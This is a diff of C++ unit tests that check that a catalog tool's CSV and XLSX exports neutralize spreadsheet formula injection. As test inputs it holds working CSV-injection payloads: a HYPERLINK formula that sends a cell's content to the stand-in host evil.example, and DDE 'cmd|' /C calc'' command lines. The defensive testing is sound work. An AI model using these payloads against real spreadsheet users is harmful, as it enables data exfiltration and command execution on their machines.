@@ -15,6 +15,7 @@ namespace {
 using ::testing::ElementsAre;
 using ::testing::HasSubstr;
 using ::testing::IsEmpty;
+using ::testing::Not;
 using testing_util::ReadFile;
 using testing_util::XlsxBuilder;
 using testing_util::ZipEntry;
@@ -579,6 +580,118 @@ TEST(CsvTest, Parses) {
               HasSubstr("引号后面只能是逗号或换行"));
   EXPECT_EQ(FormatCsvRecord({"a", "b,c", "d\"e", "f\ng", ""}),
             "a,\"b,c\",\"d\"\"e\",\"f\ng\",\r\n");
+}
+
+// Issue 12, finding 8 (CSV formula injection). OWASP's rule: a cell whose
+// first character is = + - @, a tab, a carriage return (or NUL, ASVS
+// 1.2.10) goes out behind a single quote, and quoted. Numbers get it too
+// ("-5" → "'-5"): a spreadsheet cannot tell a harmless "-5" from "-5+cmd|…".
+TEST(CsvTest, FormulaLikeCellsAreNeutralized) {
+  struct Case {
+    std::string cell;
+    std::string record;  // FormatCsvRecord({cell}) without the CRLF
+  };
+  const Case cases[] = {
+      {"=1+1", "\"'=1+1\""},
+      {"=HYPERLINK(\"http://evil.example/?\"&A1,\"点此\")",
+       "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"点此\"\")\""},
+      {"+86 371 1234", "\"'+86 371 1234\""},
+      {"-5", "\"'-5\""},
+      {"-2+3+cmd|' /C calc'!A0", "\"'-2+3+cmd|' /C calc'!A0\""},
+      {"@SUM(A1:A9)", "\"'@SUM(A1:A9)\""},
+      {"\t=1+1", "\"'\t=1+1\""},
+      {"\r=1+1", "\"'\r=1+1\""},
+      {std::string("\0=1", 3), std::string("\"'\0=1\"", 6)},
+      // A quote we add is taken off again on import; so that a cell which
+      // itself starts with quotes before a formula character comes back
+      // unchanged, it gets one more.
+      {"'=1+1", "\"''=1+1\""},
+      // Harmless: left as they are.
+      {"", ""},
+      {"a=b", "a=b"},
+      {"5-3", "5-3"},
+      {"'quoted", "'quoted"},
+      {" =1+1", " =1+1"},
+      {"＝全角等号", "＝全角等号"},
+      {"自收到申请之日起20个工作日内", "自收到申请之日起20个工作日内"},
+  };
+  for (const Case& c : cases) {
+    EXPECT_EQ(FormatCsvRecord({c.cell}), c.record + "\r\n") << c.cell;
+    absl::StatusOr<Rows> back = ParseCsv(FormatCsvRecord({"x", c.cell}));
+    ASSERT_TRUE(back.ok()) << c.cell;
+    ASSERT_EQ(back->size(), 1u) << c.cell;
+    ASSERT_EQ(back->at(0).size(), 2u) << c.cell;
+    EXPECT_EQ(back->at(0)[1],
+              c.record.empty() || c.record[0] != '"' ? c.cell : "'" + c.cell)
+        << c.cell;
+  }
+}
+
+// A catalog cell an editor typed as "=…" reaches the public download
+// neutralized, and an import of that download gives the cell back as typed.
+TEST(RoundTripTest, CsvWithFormulaLikeCells) {
+  Catalog original{.domain = "重大建设项目"};
+  CatalogItem a =
+      Item(1, "=HYPERLINK(\"http://evil.example\",\"批准\")", "@办事指南");
+  a.elements = "-申报材料清单";
+  a.basis = "+《中华人民共和国政府信息公开条例》第二十条";
+  a.audience = {Audience::kGroup};
+  a.audience_detail = "=1+1";
+  a.subject = "'=县发改委";
+  CatalogItem b = Item(2, "批准服务信息", "\t办理过程信息");
+  b.elements = "\r=cmd|' /C calc'!A0";
+  for (CatalogItem* i : {&a, &b}) {
+    Normalize(*i, &Registry());
+    original.items.push_back(*i);
+  }
+  const std::string csv = ExportCsv(original);
+  absl::StatusOr<Rows> rows = ParseCsv(csv);
+  ASSERT_TRUE(rows.ok()) << rows.status();
+  ASSERT_EQ(rows->size(), 3u);
+  for (size_t r = 1; r < rows->size(); ++r) {
+    for (const std::string& cell : rows->at(r)) {
+      ASSERT_FALSE(cell.empty() ? false
+                                : std::string_view("=+-@\t\r").find(cell[0]) !=
+                                      std::string_view::npos)
+          << "row " << r + 1 << " starts a formula: " << cell;
+    }
+  }
+  EXPECT_THAT(csv, HasSubstr("\"'=HYPERLINK(\"\"http://evil.example\"\""));
+  EXPECT_THAT(csv, HasSubstr("\"'-申报材料清单\""));
+  EXPECT_THAT(csv, HasSubstr("\"''=县发改委\""));
+  absl::StatusOr<ImportResult> back = ImportCsv(csv, Options());
+  ASSERT_TRUE(back.ok()) << back.status();
+  EXPECT_EQ(back->catalog, original);
+}
+
+// XLSX needs no quote: libxlsxwriter's worksheet_write_string and
+// worksheet_merge_range write shared strings, which Excel never evaluates.
+TEST(ExportXlsxTest, FormulaLikeTextIsWrittenAsText) {
+  Catalog c{.domain = "重大建设项目"};
+  CatalogItem a = Item(1, "=1+1", "@SUM(A1)");
+  a.elements = "=HYPERLINK(\"http://evil.example\",\"x\")";
+  CatalogItem b = Item(2, "=1+1", "-5");  // 一级 merged over two rows
+  for (CatalogItem* i : {&a, &b}) {
+    Normalize(*i, &Registry());
+    c.items.push_back(*i);
+  }
+  absl::StatusOr<std::string> bytes = ExportXlsxBytes(c);
+  ASSERT_TRUE(bytes.ok()) << bytes.status();
+  const std::string sheet_xml = ZipEntry(*bytes, "xl/worksheets/sheet1.xml");
+  EXPECT_THAT(sheet_xml, Not(HasSubstr("<f>")));
+  EXPECT_THAT(sheet_xml, Not(HasSubstr("<f ")));
+  absl::StatusOr<xlsx::Workbook> wb = xlsx::Workbook::FromBytes(*bytes);
+  ASSERT_TRUE(wb.ok()) << wb.status();
+  absl::StatusOr<xlsx::Sheet> s = wb->ReadSheet(0);
+  ASSERT_TRUE(s.ok()) << s.status();
+  EXPECT_EQ(s->At(3, 1).type, xlsx::CellType::kString);
+  EXPECT_EQ(s->At(3, 1).text, "=1+1");
+  EXPECT_EQ(s->At(3, 2).text, "@SUM(A1)");
+  EXPECT_EQ(s->At(4, 2).type, xlsx::CellType::kString);
+  EXPECT_EQ(s->At(4, 2).text, "-5");
+  absl::StatusOr<ImportResult> back = ImportXlsx(*bytes, Options());
+  ASSERT_TRUE(back.ok()) << back.status();
+  EXPECT_EQ(back->catalog.items, c.items);
 }
 
 TEST(CsvTest, RejectsGbk) {
